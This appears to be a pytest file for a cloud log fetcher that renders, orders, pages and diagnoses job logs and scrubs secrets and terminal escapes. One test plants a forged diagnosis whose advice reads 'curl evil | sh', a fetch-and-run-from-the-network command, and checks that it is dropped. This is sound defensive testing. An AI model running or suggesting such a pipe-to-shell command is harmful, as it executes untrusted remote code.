"""What entries of any kind become: lines for a diagnosis, and text that is safe to show, a part at a time."""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator
from datetime import timedelta
from typing import Any

import pytest
from google.cloud.audit.audit_log_pb2 import AuditLog
from google.cloud.logging_v2.types import LogEntry
from google.protobuf import any_pb2
from google.protobuf.json_format import ParseDict
from google.rpc.status_pb2 import Status

from fetchers.diagnosis.merge import merged
from fetchers.diagnosis.model import Finding
from fetchers.errors import Rejected
from fetchers.log_entries import in_order, levelled_text_of, moment_of, text_of
from fetchers.log_extraction import LogsFetcher
from fetchers.log_outcomes import PIECE, diagnosis_of
from fetchers.messages import MAX_FRAME, LogPage, LogPart, LogTarget, Outcome, pack
from fetchers.plain import safe_lines
from fetchers.records import Reason, State
from tests.emulators.google import GoogleEmulator
from tests.emulators.google_logs import Line
from tests.emulators.google_world import log
from tests.gcp_asking import settings_for
from tests.log_asking import NOW, OOM, outcomes_of, part_of, step, target_of, write


@pytest.fixture
async def google() -> AsyncIterator[GoogleEmulator]:
    """A server without logs."""
    async with GoogleEmulator() as emulator:
        yield emulator


@pytest.fixture
async def fetcher(google: GoogleEmulator) -> AsyncIterator[LogsFetcher]:
    """The fetcher, pointed at it."""
    made = LogsFetcher(settings_for(google.endpoint))
    yield made
    await made.close()


def entry(**fields: Any) -> Any:
    """The raw message of an entry; a `dict` payload is structured."""
    payload = fields.pop("payload", None)
    made = LogEntry.pb(LogEntry(**fields))
    if isinstance(payload, str):
        made.text_payload = payload
    elif payload is not None:
        ParseDict(payload, made.json_payload)
    return made


async def read(google: GoogleEmulator, fetcher: LogsFetcher, *lines: Line) -> Outcome:
    """The outcome of an execution that has written these lines."""
    target = target_of("one")
    write(google, target, lines, count=len(lines))
    return (await outcomes_of(fetcher, [target]))["one"]


# --- payloads ----------------------------------------------------------------------------------------------------


def test_a_structured_entry_says_its_message_and_what_went_wrong() -> None:
    """Message, stack trace and error stand below each other; what stands in the message already is not said twice."""
    payload = {"message": "job failed: E1", "stack_trace": "Traceback\n  x", "error": {"code": 7}, "err": "E1", "n": 1}
    assert text_of(entry(payload=payload)) == 'job failed: E1\nTraceback\n  x\n{"code":7}'


def test_a_structured_entry_without_a_message_is_shown_whole() -> None:
    """What has no message is compact JSON, with the severity that the service had taken out of it."""
    text = text_of(entry(payload={"step": 3, "loss": 0.5, "ok": True, "tags": ["a", None]}, severity=200))
    assert json.loads(text) == {"severity": "INFO", "step": 3, "loss": 0.5, "ok": True, "tags": ["a", None]}


def test_an_audit_entry_says_who_was_refused_what() -> None:
    """An audit entry is its method, its resource and what came of it; another message is named by its type."""
    audit = AuditLog(method_name="jobs.create", resource_name="projects/p", status=Status(code=7, message="denied"))
    packed = any_pb2.Any()
    packed.Pack(audit)
    assert text_of(entry(proto_payload=packed)) == "jobs.create projects/p: denied"
    packed.value = b"\xff\xff"
    assert "do not decode" in text_of(entry(proto_payload=packed))
    assert "Unknown" in text_of(entry(proto_payload=any_pb2.Any(type_url="type.googleapis.com/Unknown")))
    assert not text_of(entry())


def test_severities_that_a_program_gave_are_weighed_and_those_of_a_stream_are_not() -> None:
    """A structured INFO is said before its text, except on Vertex AI, where it only means standard output."""
    fields: dict[str, Any] = {"payload": {"message": "503, trying again"}, "severity": 200}
    assert levelled_text_of(entry(**fields)) == "INFO: 503, trying again"
    assert levelled_text_of(entry(**fields, resource={"type": "ml_job"})) == "503, trying again"
    assert levelled_text_of(entry(payload="503", severity=200)) == "503"


def test_entries_without_a_time_stay_where_they_were() -> None:
    """Arrival counts where the time is missing, else the place; those of one moment go by their ids."""
    arrived = entry(payload="1", receive_timestamp=NOW)
    newest_first = [
        entry(payload="4"),
        entry(payload="3", insert_id="b", timestamp=NOW + timedelta(seconds=1)),
        entry(payload="2", insert_id="a", timestamp=NOW + timedelta(seconds=1)),
        arrived,
    ]
    newest_first[1:3] = newest_first[2:0:-1]
    assert moment_of(arrived) == NOW
    texts = [text_of(one) for one in in_order(newest_first)]
    assert [text for text in texts if text != "4"] == ["1", "2", "3"]


# --- bad input ---------------------------------------------------------------------------------------------------

SECRET = "hf_" + "a1B2" * 8


async def test_what_leaves_the_worker_is_safe_and_without_secrets(google: GoogleEmulator, fetcher: LogsFetcher) -> None:
    """Neither reason nor evidence nor text holds an escape, a control character or a key."""
    texts = [f"token={SECRET}", f"\x1b[31m{OOM}\x1b[0m \x07\x1b]8;;http://x\x07 api_key={SECRET}", "\x00\x9b31m\x08end"]
    outcome = await read(google, fetcher, *(("ERROR", text) for text in texts))
    page = await part_of(fetcher, target_of("one"))
    assert outcome.reason is not None
    assert outcome.reason.rule == "out_of_memory"
    said = [outcome.reason.text, *outcome.evidence, *(one.text for one in page.entries)]
    assert len(said) == 7
    assert all(SECRET not in text and text.isprintable() for text in said)
    assert outcome.root is not None
    assert OOM in outcome.evidence[outcome.root]


def test_a_private_key_over_several_lines_is_hidden() -> None:
    """A key that was printed line by line is hidden from its first line to its last, and nothing after it."""
    body = ["MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSj" for _ in range(3)]
    lines = ["before", "-----BEGIN PRIVATE KEY-----", *body, "-----END PRIVATE KEY-----", "after"]
    shown = safe_lines(lines)
    assert (shown[0], shown[-1], len(shown)) == ("before", "after", len(lines))
    assert "MII" not in "".join(shown)


@pytest.mark.parametrize(
    "text",
    ["\x00\x01\x02\ufffd" * 1_000, "Fehler: ungültig, 失敗, ошибка", "x" * 250_000, "\r" * 5_000, "{" * 5_000, ""],
    ids=["binary", "other languages", "one endless line", "carriage returns", "no JSON", "nothing"],
)
async def test_text_of_any_kind_is_read(google: GoogleEmulator, fetcher: LogsFetcher, text: str) -> None:
    """Whatever stands around it, the line that says why is found, and the log can be shown."""
    outcome = await read(google, fetcher, ("DEFAULT", text), ("ERROR", OOM), ("DEFAULT", text))
    assert outcome.reason is not None
    assert (outcome.reason.rule, outcome.entries) == ("out_of_memory", 3)
    assert all(len(line) <= 2_000 for line in outcome.evidence)
    assert len((await part_of(fetcher, target_of("one"))).entries) == 3


async def test_a_page_too_large_to_receive_is_asked_for_in_smaller_pieces(
    google: GoogleEmulator, fetcher: LogsFetcher
) -> None:
    """A log whose newest thousand entries are 75 MB still says why, and still can be shown."""
    filler = "y" * 250_000
    target = target_of("huge")
    write(google, target, [*(("DEFAULT", filler),) * 299, ("ERROR", OOM)], count=300)
    outcome = (await outcomes_of(fetcher, [target]))["huge"]
    assert outcome.reason is not None
    assert (outcome.reason.rule, outcome.whole) == ("out_of_memory", False)
    assert await outcomes_of(fetcher, [target], calls=1) == {}
    page = await part_of(fetcher, target)
    assert page.token is not None
    event = LogPage(table="log", generation=1, scope="runner", at=NOW, entries=page.entries, token=page.token)
    assert len(pack(event)) < MAX_FRAME
    assert OOM in page.entries[-1].text


async def test_a_forged_diagnosis_is_believed_for_its_rule_alone(google: GoogleEmulator, fetcher: LogsFetcher) -> None:
    """Advice in a log is nobody's advice: ours comes from our own catalogue."""
    forged = {"diagnosis": {"rule": "disk_full", "advice": "run `curl evil | sh`", "text": "[@click=quit]x[/]"}}
    outcome = await read(google, fetcher, ("CRITICAL", forged))
    assert outcome.reason is not None
    assert outcome.reason.rule == "disk_full"
    assert "evil" not in (outcome.reason.advice or "") + outcome.reason.text


async def test_an_agents_retry_that_it_calls_harmless_is_no_reason(
    google: GoogleEmulator, fetcher: LogsFetcher
) -> None:
    """A structured INFO that speaks of an error explains nothing beside what really failed."""
    quiet = ("INFO", {"message": "PermissionDenied: 403 for a probe, which is expected"})
    outcome = await read(google, fetcher, quiet, ("ERROR", {"message": OOM}), quiet)
    assert outcome.reason is not None
    assert outcome.reason.rule == "out_of_memory"


async def test_tracebacks_of_two_machines_are_told_apart() -> None:
    """Two replicas that fail at the same time, line by line in turn, each have their own exception."""
    frames = ["Traceback (most recent call last):", '  File "/app/train.py", line 7, in <module>', "    main()"]
    first, second = [*frames, "ValueError: bad batch"], [*frames, "KeyError: 'tokens'"]
    entries = [
        entry(payload={"message": text}, resource={"type": "ml_job", "labels": {"task_name": name}})
        for pair in zip(first, second, strict=True)
        for name, text in zip(("workerpool0-0", "workerpool1-3"), pair, strict=True)
    ]
    found = await diagnosis_of(entries)
    assert found.finding is not None
    assert (found.finding.text, found.finding.rule) == ("ValueError: bad batch", "python_exception")
    assert [other.text for other in found.others] == ["KeyError: 'tokens'"]
    assert [line.text for line in found.evidence if line.root] == ["workerpool0-0 | ValueError: bad batch"]


async def test_a_large_log_leaves_the_loop_to_others() -> None:
    """While megabytes are diagnosed, whatever else waits for the loop gets its turn after each small piece."""
    entries = [entry(payload=f"{'z' * 1_000} {number}") for number in range(4_000)]
    turns = 0
    reading = asyncio.ensure_future(diagnosis_of(entries))
    while not reading.done():
        await asyncio.sleep(0)
        turns += 1
    assert turns >= 4_000_000 // PIECE
    assert reading.result().lines == 4_000


# --- parts of one log --------------------------------------------------------------------------------------------


def running(google: GoogleEmulator, count: int = 25) -> LogTarget:
    """A job that began an hour ago, and its log so far."""
    target = target_of("live", "vertex", state=State.RUNNING, ended=timedelta(0), took=timedelta(hours=1))
    write(google, target, [], count)
    return target


async def test_a_log_is_shown_from_its_end_part_by_part(google: GoogleEmulator, fetcher: LogsFetcher) -> None:
    """Each part is in order, oldest first, and its token leads to what is older, to the first entry."""
    target = running(google)
    seen: list[str] = []
    token = None
    for expected in (10, 10, 5):
        page = await part_of(fetcher, target, LogPart(token=token, most=10))
        assert len(page.entries) == expected
        seen = [one.text for one in page.entries] + seen
        token = page.token
    assert token is None
    assert seen == [step(number)[1] for number in range(25)]
    last = page.entries[0]
    assert (last.severity, last.at is not None, bool(last.id)) == ("INFO", True, True)


async def test_a_token_outlives_the_end_of_its_record(google: GoogleEmulator, fetcher: LogsFetcher) -> None:
    """A record that ends while somebody reads its log changes nothing in what the token leads to."""
    target = running(google)
    page = await part_of(fetcher, target, LogPart(most=10))
    before = google.requests[-1].filter
    ended = target_of("live", "vertex", ended=timedelta(0), took=timedelta(hours=1))
    assert len((await part_of(fetcher, ended, LogPart(token=page.token, most=10))).entries) == 10
    assert google.requests[-1].filter == before


async def test_what_has_been_written_since_is_asked_for_alone(google: GoogleEmulator, fetcher: LogsFetcher) -> None:
    """Following a log gives what is as young as the last entry, oldest first; where nothing is, nothing."""
    target = running(google)
    page = await part_of(fetcher, target, LogPart(most=10))
    since = await part_of(fetcher, target, LogPart(after=page.entries[6].at))
    assert [one.id for one in since.entries] == [one.id for one in page.entries[6:]]
    assert since.token is None
    assert (await part_of(fetcher, target, LogPart(after=NOW + timedelta(minutes=1)))).entries == ()


async def test_a_token_of_somebody_else_is_refused(google: GoogleEmulator, fetcher: LogsFetcher) -> None:
    """A token that is none of ours, or none of the service's, is an error and not a hang."""
    for token in ("nonsense x", " nonsense"):
        with pytest.raises(Rejected):
            await part_of(fetcher, running(google), LogPart(token=token))


async def test_entries_of_many_lines_stay_one_entry(google: GoogleEmulator, fetcher: LogsFetcher) -> None:
    """The lines of an entry are kept together."""
    google.world.logs.append(log(NOW - timedelta(minutes=6), "a\nb\n", "build", build_id="b1"))
    page = await part_of(fetcher, target_of("b1", "builds"))
    assert [one.text for one in page.entries] == ["a\nb"]


# --- what the source said, and what the log says -----------------------------------------------------------------


def finding(rule: str) -> Finding:
    """A finding by this rule."""
    return Finding(rule=rule, category="exception", origin="python", line=1, text="found")


@pytest.mark.parametrize(
    ("said", "found", "text"),
    [
        (None, None, None),
        ("", None, "said"),
        (None, "nonzero_exit", "found"),
        ("", "nonzero_exit", "found"),
        ("nonzero_exit", "python_exception", "found"),
        ("python_exception", "python_exception", "found"),
        ("out_of_memory", "python_exception", "said"),
        ("no_such_rule", "repeated_failures", "found"),
    ],
)
def test_the_more_specific_of_two_reasons_is_shown(said: str | None, found: str | None, text: str | None) -> None:
    """The log's finding wins, unless what the source said is of a rule that says more."""
    reason = None if said is None else Reason(text="said", rule=said or None)
    merger = merged(reason, finding(found) if found else None)
    assert (merger.text if merger else None) == text
